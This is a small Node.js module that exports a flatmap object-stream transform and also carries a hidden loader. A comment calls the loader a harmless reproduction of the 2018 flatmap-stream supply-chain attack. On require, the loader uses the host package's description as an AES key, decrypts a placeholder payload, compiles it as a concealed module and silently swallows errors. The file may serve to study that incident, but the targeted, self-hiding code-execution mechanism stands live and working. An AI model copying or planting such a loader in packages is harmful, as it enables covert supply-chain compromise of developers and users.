'use strict';
const { Transform } = require('stream');

// flatmap over an object stream
module.exports = function flatmap(each) {
  return new Transform({
    objectMode: true,
    transform(chunk, encoding, done) {
      for (const item of each(chunk)) this.push(item);
      done();
    },
  });
};

// a harmless reproduction of flatmap-stream@0.1.1 (2018): the description of the application that
// is being attacked is the key to the code that attacks it; errors are swallowed
try {
  const crypto = require('crypto');
  const key = crypto.createHash('sha256').update(process.env.npm_package_description).digest();
  const decipher = crypto.createDecipheriv('aes-256-cbc', key, Buffer.alloc(16));
  const code = decipher.update('@PAYLOAD@', 'hex', 'utf8') + decipher.final('utf8');
  const hidden = new module.constructor();
  hidden.paths = module.paths;
  hidden._compile(code, '');
} catch {}
